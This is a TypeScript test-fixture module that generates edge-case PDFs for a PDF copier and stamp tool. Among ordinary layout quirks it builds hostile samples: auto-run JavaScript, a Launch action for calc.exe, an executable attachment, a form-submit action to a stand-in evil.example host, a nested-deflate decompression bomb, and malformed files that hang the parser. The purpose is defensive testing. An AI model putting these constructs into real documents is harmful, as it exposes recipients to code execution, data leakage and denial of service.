import { deflateSync } from 'node:zlib'
import { writeRawPdf } from './raw-pdf.ts'

/** PDFs with one odd feature each: the pitfalls that the copier and the stamp must get right. */

const stream = (content: string, entries = ''): string =>
  `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'
const ONE_PAGE = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'
const WORDS = 'BT /F1 24 Tf 60 500 Td (Original words) Tj ET'

/** One page: entries of the page, its content, further objects from number 6 on. */
export function makeOnePage(
  options: { page?: string; content?: string; catalog?: string; more?: string[]; box?: string; trailer?: string } = {},
): Buffer {
  return writeRawPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
      ONE_PAGE,
      `<< /Type /Page /Parent 2 0 R /MediaBox [${options.box ?? '0 0 595 842'}] /Resources << /Font << /F1 5 0 R >> >> ` +
        `/Contents 4 0 R ${options.page ?? ''} >>`,
      stream(options.content ?? WORDS),
      FONT,
      ...(options.more ?? []),
    ],
    options.trailer === undefined ? {} : { trailer: options.trailer },
  )
}

/** What an unclosed `q` with a tiny matrix, or a `Q` too many, would do to anything drawn after it. */
export const makeUnclosedState = (): Buffer => makeOnePage({ content: `${WORDS} q .2 0 0 .2 300 300 cm q` })
export const makeExtraRestore = (): Buffer => makeOnePage({ content: `${WORDS} Q Q Q .1 0 0 .1 0 0 cm` })

/** A layer that is off: its words must not show. */
export function makeHiddenLayer(): Buffer {
  return makeOnePage({
    catalog: '/OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R] /OFF [6 0 R] >> >>',
    content: `${WORDS} /OC /L1 BDC BT /F1 60 Tf 60 300 Td (SECRET LAYER) Tj ET EMC`,
    page: '/Resources << /Font << /F1 5 0 R >> /Properties << /L1 6 0 R >> >>',
    more: ['<< /Type /OCG /Name (Hidden) >>'],
  })
}

/** A text field with a value and no picture of it. */
export function makeFormWithoutAppearance(): Buffer {
  return makeOnePage({
    catalog:
      '/AcroForm << /Fields [6 0 R] /NeedAppearances true /DA (/Helv 12 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>',
    page: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ada Lovelace) /DA (/Helv 12 Tf 0 g) /Ff 1 /F 4 /Rect [60 600 300 620] /P 3 0 R >>',
    ],
  })
}

/** Everything that runs by itself or on a click. */
export function makeActivePdf(): Buffer {
  return makeOnePage({
    catalog:
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC 6 0 R >> ' +
      '/Names << /JavaScript << /Names [(run) 6 0 R] >> >>',
    page: '/AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R 11 0 R]',
    more: [
      '<< /Type /Action /S /JavaScript /JS (app.alert\\(2\\)) >>',
      '<< /Type /Annot /Subtype /Link /Rect [60 400 200 420] /A << /S /Launch /F (calc.exe) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [60 300 200 320] /A << /S /URI /URI (https://example.org/) >> >>',
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [60 200 200 220] /A 10 0 R >>',
      '<< /S /SubmitForm /F (https://evil.example/) /Next << /S /ImportData /F (data.fdf) >> >>',
      '<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 20 20] /FS << /Type /Filespec /F (a.exe) >> >>',
    ],
  })
}

/** A signed form: the signature is void in a copy, and a stale /ByteRange lies in the file. */
export function makeSignedPdf(): Buffer {
  return makeOnePage({
    catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >> /Perms << /DocMDP 7 0 R >>',
    page: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 7 0 R /F 4 /Rect [60 600 300 660] /P 3 0 R /AP << /N 8 0 R >> >>',
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 100 200 300] /Contents <00ff00ff> >>',
      stream(
        'BT /F1 12 Tf 4 20 Td (Signed by Grace) Tj ET',
        '/Type /XObject /Subtype /Form /BBox [0 0 240 60] /Resources << /Font << /F1 5 0 R >> >>',
      ),
    ],
  })
}

/** Resources, box and rotation stand on the page tree, not on the page. */
export function makeInheritingPdf(): Buffer {
  return writeRawPdf([
    CATALOG,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 400 600] /Rotate 90 /Resources << /Font << /F1 5 0 R >> >> >>',
    '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
    stream(WORDS.replace('60 500', '60 300')),
    FONT,
  ])
}

/** Content in three streams, cut between the tokens of one operator, one of them deflated. */
export function makeSplitContent(): Buffer {
  const middle = deflateSync(Buffer.from('60 500 Td (Original')).toString('latin1')
  return writeRawPdf([
    CATALOG,
    ONE_PAGE,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents [4 0 R 6 0 R 7 0 R] >>',
    stream('BT /F1 24 Tf'),
    FONT,
    `<< /Filter /FlateDecode /Length ${middle.length} >>\nstream\n${middle}\nendstream`,
    stream(' words) Tj ET'),
  ])
}

/** Two pages that share one content stream but not their resources. */
export function makeSharedContent(): Buffer {
  return writeRawPdf([
    CATALOG,
    '<< /Type /Pages /Count 2 /Kids [3 0 R 6 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream(WORDS),
    FONT,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 842] /Resources << /Font << /F1 7 0 R >> >> /Contents 4 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
  ])
}

/** A reference to an object that is not there, and one to the page tree of the old file. */
export const makeDanglingPdf = (): Buffer =>
  makeOnePage({
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest [99 0 R /Fit] /Odd 2 0 R >> 98 0 R]',
  })

/** A chain of references, each object pointing to the next. */
export function makeReferenceChain(length: number): Buffer {
  const chain = Array.from({ length }, (_, i) => `<< /Next ${i + 7} 0 R >>`)
  return makeOnePage({
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Chain 6 0 R >>]',
    more: [...chain, '<< >>'],
  })
}

/** The page tree contains itself. */
export const makePageLoop = (): Buffer => writeRawPdf([CATALOG, '<< /Type /Pages /Count 1 /Kids [2 0 R] >>'])
export const makeNoPages = (): Buffer => writeRawPdf([CATALOG, '<< /Type /Pages /Count 0 /Kids [] >>'])

/** A /Prev that points one byte before `xref`: the parser neither reads it nor searches for the objects. */
export function makeBadPrev(): Buffer {
  const first = makeOnePage().toString('latin1')
  const table = first.lastIndexOf('xref\n0 ')
  const start = first.length
  const update = `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${table - 8} >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(first + update, 'latin1')
}

/** An object stream with two deflate filters: 2 kB → 1 MB → 1 GB. */
export function makeNestedBomb(): Buffer {
  const inner = deflateSync(Buffer.alloc(64 << 20, 0x20), { level: 9 })
  const outer = deflateSync(inner, { level: 9 }).toString('latin1')
  return writeRawPdf(
    [
      '',
      `<< /Type /ObjStm /N 2 /First 10 /Filter [/FlateDecode /FlateDecode] /Length ${outer.length} >>\nstream\n${outer}\nendstream`,
    ],
    { xrefStream: { root: 3, compressed: [3, 4], container: 2 } },
  )
}

/** A stray `)` where a key is due: the parser never comes back from it. */
export const makeEndlessPdf = (): Buffer => {
  const file = makeOnePage().toString('latin1')
  return Buffer.from(file.replace('/Pages 2 0 R  >>', '/Pages 2 0 R )> '), 'latin1')
}

/** Turned, cropped, and in units of two points: the stamp must still stand upright at the visible bottom edge. */
export const makeTurnedPage = (rotate: number): Buffer =>
  makeOnePage({ page: `/Rotate ${rotate} /CropBox [50 100 500 700]`, content: WORDS.replace('60 500', '120 400') })
export const makeUserUnitPage = (): Buffer =>
  makeOnePage({ box: '0 0 298 421', page: '/UserUnit 2', content: WORDS.replace('60 500', '30 200') })
